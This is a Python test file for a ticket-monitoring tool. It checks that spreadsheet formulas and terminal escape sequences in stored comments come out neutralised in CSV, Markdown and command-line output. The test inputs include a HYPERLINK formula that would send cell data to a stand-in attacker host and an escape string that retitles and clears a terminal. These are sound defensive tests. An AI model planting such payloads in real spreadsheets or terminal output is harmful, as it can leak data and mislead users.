"""Stored text that attacks its reader: spreadsheet formulas and terminal escapes in comments
come out neutralised in the CSV log, the Markdown log and the CLI (issue 13, items 5, 12)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import yaml
from click.testing import CliRunner

from monitord.cli import main
from monitord.present.text import clean, csv_cell
from tests.support.apilab import Api
from tests.support.ticketlab import config_data

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x9b2J\x7f"
CONTROL = {chr(c) for c in [*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]} - {"\r"}


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_clean_and_csv_cell() -> None:
    assert clean("a\tb\nc" + ESCAPES) == "a\tb\nc\ufffd]0;owned\ufffd\ufffd[31mred\ufffd2J\ufffd"
    assert clean("x\ud800y") == "x\ufffdy" and clean("line\r\n") == "line\r\n"
    for start in "=+-@\t\r":
        assert csv_cell(start + "1+1").startswith("'"), repr(start)
    assert csv_cell("plain -1") == "plain -1" and csv_cell("") == ""


async def test_the_api_log_neutralises_a_customers_formula(api: Api) -> None:
    ticket = await api.down("nvr")
    posted = await api.call("POST", f"/api/v1/tickets/{ticket}/events", "cust",
                            json={"kind": "comment", "by": "+zhao", "text": FORMULA + ESCAPES})  # fmt: skip
    assert posted.status_code == 201
    day = api.clock.now().date().isoformat()
    params = {"from": day, "to": day, "site": "s1"}
    log = await api.call("GET", "/api/v1/reports/log", "mgr", params=params)
    assert log.status_code == 200
    rows = cells(log.text)
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert not set(cell) & CONTROL, cell
    [comment] = [r for r in rows if any(FORMULA in c for c in r)]
    assert any(c.startswith("'=HYPERLINK") for c in comment)
    md = await api.call("GET", "/api/v1/reports/log", "mgr", params={**params, "format": "md"})
    assert FORMULA in md.text and not set(md.text) & CONTROL


def test_the_cli_shows_no_escapes_and_the_csv_no_formulas(tmp_path: Path) -> None:
    data = config_data(f"sqlite:///{tmp_path / 'monitord.db'}", "city")
    config = tmp_path / "monitord.yaml"
    config.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")

    def run(*args: str) -> str:
        result = CliRunner().invoke(main, ["-c", str(config), *args], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.output

    assert run("ticket", "open", "--site", "s1", "--by", "li" + ESCAPES, FORMULA) == "#1: opened\n"
    run("ticket", "comment", "1", "--by", "@wang", "see " + ESCAPES)
    shown = run("ticket", "show", "1")
    assert "owned" in shown and not set(shown) & CONTROL
    assert not set(run("tickets")) & CONTROL
    day = dt.datetime.now(dt.UTC).date()
    span = ["--from", (day - dt.timedelta(days=1)).isoformat(), "--to",
            (day + dt.timedelta(days=1)).isoformat()]  # fmt: skip
    rows = cells(run("report", "log", "--site", "s1", *span))
    flat = [c for r in rows for c in r]
    assert f"'{FORMULA}" in flat and any(c.startswith("'@wang [cli:") for c in flat)
    assert not any(c.startswith(("=", "@")) for c in flat)
    assert not any(set(c) & CONTROL for c in flat)
    md = run("report", "log", "--site", "s1", *span, "--format", "md")
    assert "owned" in md and not set(md) & CONTROL
